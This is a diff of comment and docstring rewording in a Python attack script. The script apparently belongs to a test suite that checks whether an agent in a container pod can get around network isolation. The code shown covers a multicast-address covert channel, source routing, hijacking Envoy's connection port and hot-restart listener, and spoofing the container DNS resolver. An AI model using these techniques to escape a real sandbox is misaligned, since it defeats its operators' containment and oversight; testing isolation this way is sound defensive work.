@@ -1,4 +1,4 @@
-"""What an agent tries, in the pod, that takes more than a line of shell.
+"""The attacks of an agent in the pod that need more than a line of shell.
 
     attacker.py WAY [ARGUMENTS]
 
@@ -53,7 +53,7 @@ def ping(address):
 
 
 def join(_):
-    """A group whose address says something: the kernel tells the link of it (MLD, RFC 3810)."""
+    """Joins a group whose address carries data: the kernel reports it on the link (MLD, RFC 3810)."""
     with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as member:
         group = b"\xff\x3e\0\0\0\0" + MARKER
         member.setsockopt(41, 20, group + struct.pack("=I", socket.if_nametoindex("eth0")))
@@ -69,7 +69,7 @@ def broadcast(address):
 
 
 def source_routed(_):
-    """By the pod's own name server, and on from there (RFC 791)."""
+    """Source routing through the pod's own name server (RFC 791)."""
     route = b"\x83\x0b\x04" + socket.inet_aton("10.1.0.1") + socket.inet_aton("20.0.0.2") + b"\0"
     tcp("20.0.0.2", 22, (0, socket.IP_OPTIONS, route))
 
@@ -83,7 +83,7 @@ def hello(name):
 
 
 def envoys_port(peer, port):
-    """The port that Envoy has a connection to this peer from: everybody in the pod can read that."""
+    """The source port of Envoy's connection to this peer, which every process in the pod can read."""
     end = f"{struct.unpack('=I', socket.inet_aton(peer))[0]:08X}:{port:04X}"
     while True:
         for line in [line.split() for name in ("tcp", "tcp6") for line in open(f"/proc/net/{name}")]:
@@ -92,7 +92,7 @@ def envoys_port(peer, port):
 
 
 def go_on(_):
-    """Has the server cut a connection of Envoy's, and dials the server from the same port."""
+    """Makes the server reset a connection of Envoy, and dials the server from the same port."""
     with socket.create_connection(("20.0.0.3", 443)) as first:
         first.sendall(hello("cut.example.com"))
         port = envoys_port("20.0.0.3", 443)
@@ -112,7 +112,7 @@ def go_on(_):
 
 
 def serve(port):
-    """Waits for somebody from outside."""
+    """Waits for a connection from outside."""
     with socket.create_server(("::", int(port)), family=socket.AF_INET6, dualstack_ipv6=True) as listener:
         print("listening", flush=True)
         listener.settimeout(15)
@@ -122,7 +122,7 @@ def serve(port):
 
 
 def raw(path):
-    """Sends each of the byte strings in a file by a connection of its own, to the port of HTTP at somebody else's."""
+    """Sends each of the byte strings in a file on its own connection, to port 80 of an unrelated server."""
 
     def send(what):
         try:
@@ -143,7 +143,7 @@ def raw(path):
 
 
 def hot_restart(_):
-    """Asks Envoy for its listener as its successor would, and goes out by it."""
+    """Requests Envoy's listener as its successor would, and connects out through it."""
 
     def field(number, content):
         return bytes([number << 3 | 2, len(content)]) + content
@@ -181,13 +181,13 @@ def name_server(bound, address):
 
 
 def resolver(port):
-    """What a container engine has behind 127.0.0.11, by a rule that leads there."""
+    """The resolver that a container engine has behind 127.0.0.11, to which a rule redirects."""
     name_server(("127.0.0.11", int(port)), "20.0.0.1")
 
 
 def stand_in(_):
-    """Speaks to all ports from where the resolver is said to be: questions from those then count as answers to this, and no
-    rule leads them on to the resolver."""
+    """Sends to all ports from the resolver's address: queries from those ports then count as replies to this, and no
+    rule redirects them to the resolver."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
         server.bind(("127.0.0.11", 53))
         low, high = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
@@ -223,7 +223,7 @@ WAYS = {
     "ping by IPv6": lambda: ping("2600:1::2"),
     "TCP bound to eth0": lambda: tcp("20.0.0.1", 22, (1, BINDTODEVICE, b"eth0")),
     "MPTCP": lambda: tcp("20.0.0.1", 22, protocol=MPTCP),
-    # From here on, nothing has to be seen even where nobody holds it back: the kernel refuses, or has no such thing.
+    # The following need not arrive even without rules: the kernel refuses them or does not support them.
     "a foreign source by IPv4": lambda: udp("20.0.0.1", 9, (0, FREEBIND4, 1), source="20.0.0.2"),
     "UDP bound to lo": lambda: udp("20.0.0.2", 9, (1, BINDTODEVICE, b"lo")),
     "TCP bound to lo": lambda: tcp("20.0.0.1", 22, (1, BINDTODEVICE, b"lo")),
@@ -241,7 +241,7 @@ def udp_in_pieces():
 
 
 def smc():
-    """TCP that the kernel opens for somebody."""
+    """TCP connections that the kernel opens on behalf of a process."""
     libc = ctypes.CDLL(None, use_errno=True)
     number = libc.socket(43, socket.SOCK_STREAM, 0)
     if number < 0:
